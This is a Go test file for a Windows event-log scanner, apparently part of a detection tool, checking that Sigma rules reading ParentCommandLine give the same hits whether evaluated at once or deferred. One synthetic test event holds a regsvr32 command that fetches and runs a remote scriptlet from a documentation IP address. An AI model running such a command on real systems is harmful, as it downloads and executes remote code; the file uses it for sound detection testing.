package detections

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
	"github.com/evtxhunt/evtxhunt/detections/sigma"
)

// lateRules are rules of each kind the two-step detection must classify:
// the ones reading ParentCommandLine are deferred on a 4688 event without
// it.
var lateRules = []struct {
	name, detection string
	reads           bool
}{
	{"parent-cmd", "sel: {ParentCommandLine|contains: 'evilparent'}", true},
	{"keyword", "sel: ['evilkeyword']", true},
	{"fieldref", "sel: {CommandLine|fieldref: ParentCommandLine}", true},
	{"not-parent", "sel: {Image|endswith: '\\x.exe'}\n    filter: {ParentCommandLine|contains: 'benign'}", true},
	{"image", "sel: {Image|endswith: '\\x.exe'}", false},
	{"parent-image", "sel: {ParentImage|endswith: '\\evilparent.exe'}", false},
	{"cmd", "sel: {CommandLine|contains: 'evilkeyword'}", false},
}

func loadLateSet(t *testing.T) *Set {
	t.Helper()
	dir := t.TempDir()
	for i, r := range lateRules {
		cond := "sel"
		if strings.Contains(r.detection, "filter:") {
			cond = "sel and not filter"
		}
		doc := fmt.Sprintf("title: %s\nid: 00000000-0000-4000-8000-%012d\nlevel: high\nlogsource: {product: windows, category: process_creation}\ndetection:\n    %s\n    condition: %s\n",
			r.name, i, r.detection, cond)
		if err := os.WriteFile(filepath.Join(dir, r.name+".yml"), []byte(doc), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	set, errs := Load(Config{RulePaths: []string{dir}})
	if len(errs) > 0 {
		t.Fatalf("load: %v", errs)
	}
	return set
}

func TestReadsField(t *testing.T) {
	set := loadLateSet(t)
	byTitle := map[string]*sigma.Rule{}
	for _, r := range set.Rules() {
		byTitle[r.Title] = r
	}
	for _, r := range lateRules {
		if got := byTitle[r.name].ReadsField(event.FieldParentCommandLine); got != r.reads {
			t.Errorf("%s: ReadsField(ParentCommandLine) = %v, want %v", r.name, got, r.reads)
		}
	}
}

// TestDetectThenLate: on every event, Detect on the event as decoded,
// then, where the scanner fills its ParentCommandLine, DropDeferred and
// DetectLate on the completed event, give exactly Detect on the completed
// event, hits in the same order (built-in rules and checks included).
func TestDetectThenLate(t *testing.T) {
	set := loadLateSet(t)
	mk := func(id uint32, image, cmd string) event.Process {
		p := event.Process{EventID: id, Channel: "Security"}
		if id == event.SysmonProcessCreate {
			p.Channel = "Microsoft-Windows-Sysmon/Operational"
		}
		p.Set(event.FieldImage, image)
		p.Set(event.FieldCommandLine, cmd)
		p.Set(event.FieldParentImage, `C:\Windows\System32\cmd.exe`)
		return p
	}
	events := []event.Process{
		mk(4688, `C:\Users\Public\x.exe`, `x.exe evilkeyword`),
		mk(4688, `C:\Users\Public\x.exe`, `x.exe /run`),
		mk(4688, `C:\Windows\System32\regsvr32.exe`, `regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll`),
		mk(4688, `C:\Windows\System32\whoami.exe`, `cmd /c evilparent`),
		mk(1, `C:\Users\Public\x.exe`, `x.exe`),
	}
	parents := []string{"", "evilparent.exe -x", "benign.exe", "cmd /c evilparent", "evilkeyword"}
	lateMemo := set.NewLateMemo()
	deferred := 0
	for i := range events {
		for _, parent := range parents {
			p := events[i]
			if p.EventID != event.SecurityProcessCreate && parent != "" {
				// Sysmon records carry their parent's command line.
				p.Set(event.FieldParentCommandLine, parent)
			}
			decoded, _ := set.Detect(&p, nil, nil)
			defers := set.Defers(&p)
			filled := defers && parent != ""
			if filled {
				p.Set(event.FieldParentCommandLine, parent) // as the scanner fills it
			}
			got := slices.Clone(decoded)
			viaMemo := slices.Clone(decoded)
			early := set.DropDeferred(slices.Clone(decoded))
			if filled {
				got, viaMemo = slices.Clone(early), slices.Clone(early)
				deferred++
				got, _ = set.DetectLate(&p, got, nil)
				lateMemo.DetectLate(&p, slices.Clone(early), nil)
				viaMemo, _ = lateMemo.DetectLate(&p, viaMemo, nil) // found this time
			}
			if !slices.Equal(titles(viaMemo), titles(got)) {
				t.Errorf("event %d, parent %q: through the late memo %v, DetectLate %v", i, parent, titles(viaMemo), titles(got))
			}
			want, _ := set.Detect(&p, nil, nil)
			if !slices.Equal(titles(got), titles(want)) {
				t.Errorf("event %d, parent %q: decoded then late = %v, Detect = %v", i, parent, titles(got), titles(want))
			}
		}
	}
	if deferred == 0 {
		t.Fatal("no event had rules deferred: the test checks nothing")
	}
	// A Sysmon event and a 4688 event already carrying the field defer nothing.
	s := events[4]
	f := events[0]
	f.Set(event.FieldParentCommandLine, "x")
	if set.Defers(&s) || set.Defers(&f) {
		t.Error("Defers is true for an event whose ParentCommandLine the scanner will not fill")
	}
}

func titles(hits []Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Rule.Title+"|"+h.Reason)
	}
	return out
}
